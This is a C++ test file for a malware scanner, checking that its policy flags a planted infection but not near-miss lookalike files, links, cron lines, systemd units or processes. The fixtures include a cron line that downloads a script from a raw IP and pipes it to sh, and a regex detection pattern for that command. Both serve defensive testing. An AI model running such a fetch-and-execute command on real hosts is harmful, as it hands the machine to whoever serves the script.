// Everything that looks like the infection and is not. Each must stay unfound while the real one
// beside it is found.

#include "tests/agent/scan/tree.h"

namespace fleetsweep::scan {
namespace {

namespace fs = std::filesystem;
using model::Field;
using model::Match;
using model::ObjectKind;
using Names = std::set<std::string>;

class NearMissTest : public TreeTest {
 protected:
  static model::Policy policy() {
    model::Policy policy;
    policy.detections.push_back(
        detection("file", ObjectKind::kFile,
                  {is(Field::kFileName, "lookalike"), number(Field::kFilePackageOwned, 0),
                   is(Field::kFileSha256, sha256_hex("the infection"))}));
    policy.detections.push_back(detection(
        "cron", ObjectKind::kPersistence,
        {is(Field::kPersistenceKind, "cron"),
         is(Field::kPersistenceCommand,
            "(wget|curl)\\b.{0,80}\\b\\d{1,3}(\\.\\d{1,3}){3}/(d|spr)\\.sh\\b.{0,20}\\|\\s*(ba)?sh",
            Match::kRegex)}));
    policy.detections.push_back(detection(
        "unit", ObjectKind::kPersistence,
        {is(Field::kPersistenceKind, "systemd_unit"), is(Field::kPersistenceName, "bot.service"),
         is(Field::kPersistenceCommand, "lookalike", Match::kContains)}));
    policy.detections.push_back(detection(
        "process", ObjectKind::kProcess,
        {is(Field::kProcessName, "lookalike"), is(Field::kProcessExePath, "/tmp/lookalike")}));
    policy.verdicts.push_back({.id = "confirmed", .condition = one_of({0, 1, 2, 3})});
    return policy;
  }
  void expect_nothing() {
    const auto result = scan(policy());
    EXPECT_EQ(result["reason"], "none");
    EXPECT_TRUE(result["findings"].empty()) << result.dump(1);
    EXPECT_TRUE(result["verdicts"].empty());
  }
};

TEST_F(NearMissTest, TheInfectionItselfIsFound) {
  write("/tmp/lookalike", "the infection");
  write("/etc/cron.d/x", "* * * * * root wget -q -O - http://195.3.146.118/spr.sh | sh\n");
  write("/etc/systemd/system/bot.service", "[Service]\nExecStart=/tmp/lookalike\n");
  const auto result = scan(policy());
  EXPECT_EQ(files(result), Names{"file /tmp/lookalike"});
  EXPECT_EQ(persistence(result).size(), 2u);
  EXPECT_EQ(result["verdicts"].size(), 1u);
}

TEST_F(NearMissTest, ADirectoryAndASymlinkCalledLikeTheMalware) {
  write("/data/real", "the infection");
  fs::create_directories(at("/tmp/lookalike"));
  fs::create_directories(at("/var"));
  fs::create_symlink("../data/real", at("/var/lookalike"));
  expect_nothing();
}

TEST_F(NearMissTest, TheSameNameWithOtherContent) {
  write("/tmp/lookalike", "the infectioN");
  expect_nothing();
}

TEST_F(NearMissTest, TheSameContentUnderAnotherName) {
  write("/tmp/lookalike.txt", "the infection");
  expect_nothing();
}

TEST_F(NearMissTest, WithoutItsPackagesAHostIsNotCalledInfected) {
  fs::create_directories(at("/var/lib/rpm"));
  write("/usr/bin/lookalike", "x");
  model::Policy policy;
  policy.detections.push_back(
      detection("d", ObjectKind::kFile, {number(Field::kFilePackageOwned, 0)}));
  const auto result = scan(policy);
  EXPECT_EQ(result["reason"], "io");
  EXPECT_NE(result["detail"].get<std::string>().find("var/lib/rpm"), std::string::npos);
  EXPECT_TRUE(result["findings"].empty());
}

TEST_F(NearMissTest, APackageOwnedTwin) {
  write("/usr/bin/lookalike", "the infection");
  write("/var/lib/dpkg/info/good.list", "/bin/lookalike\n");
  expect_nothing();
}

TEST_F(NearMissTest, ACurlCronLineToTheOwnersOwnHost) {
  write("/etc/cron.d/backup",
        "0 3 * * * root curl -fsS https://backup.example.org/d.sh | sh\n"
        "0 4 * * * root curl -fsS http://10.0.0.5/status.json\n"
        "# wget -q -O - http://195.3.146.118/spr.sh | sh\n");
  expect_nothing();
}

TEST_F(NearMissTest, AHardLinkIsReportedWithItsOtherNameSoThatNobodyTakesIt) {
  write("/usr/lib/protected.so", "the infection");
  fs::create_directories(at("/tmp"));
  fs::create_hard_link(at("/usr/lib/protected.so"), at("/tmp/lookalike"));
  const auto result = scan(policy());
  ASSERT_EQ(files(result), Names{"file /tmp/lookalike"});
  // The plan looks at the other names too: act's hard_links_test tells what stops it.
  EXPECT_EQ(result["findings"][0]["file"]["links"], 2);
}

TEST_F(NearMissTest, AUnitWithASimilarName) {
  write("/etc/systemd/system/robot.service", "[Service]\nExecStart=/tmp/lookalike\n");
  write("/etc/systemd/system/bot.service.bak", "[Service]\nExecStart=/tmp/lookalike\n");
  write("/etc/systemd/system/bot.service", "[Service]\nExecStart=/usr/bin/chat\n");
  expect_nothing();
}

TEST_F(NearMissTest, AProcessWithTheNameAndAForeignProgram) {
  start_program("/opt/lookalike");
  expect_nothing();
}

}  // namespace
}  // namespace fleetsweep::scan
